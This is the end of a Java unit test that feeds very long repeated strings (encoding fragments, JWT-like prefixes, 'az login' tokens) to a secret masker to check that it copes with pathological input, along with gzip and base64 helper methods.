        hostile.add("%41 " + "a%zz".repeat(250_000));
        hostile.add("eyJaaaaa-".repeat(20_000));
        hostile.add("az login ".repeat(20_000));

        assertThat(hostile).allSatisfy(text -> assertThat(shown(text)).isNotNull());
    }

    private String shown(String text) {
        return masker.show(masker.mask(text), "", "");
    }

    private static String gzip(String text) throws IOException {
        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
        try (GZIPOutputStream out = new GZIPOutputStream(bytes)) {
            out.write(text.getBytes(StandardCharsets.UTF_8));
        }
        return Base64.getEncoder().encodeToString(bytes.toByteArray());
    }

    private static String base64(String text) {
        return Base64.getEncoder().encodeToString(text.getBytes(StandardCharsets.UTF_8));
    }
}
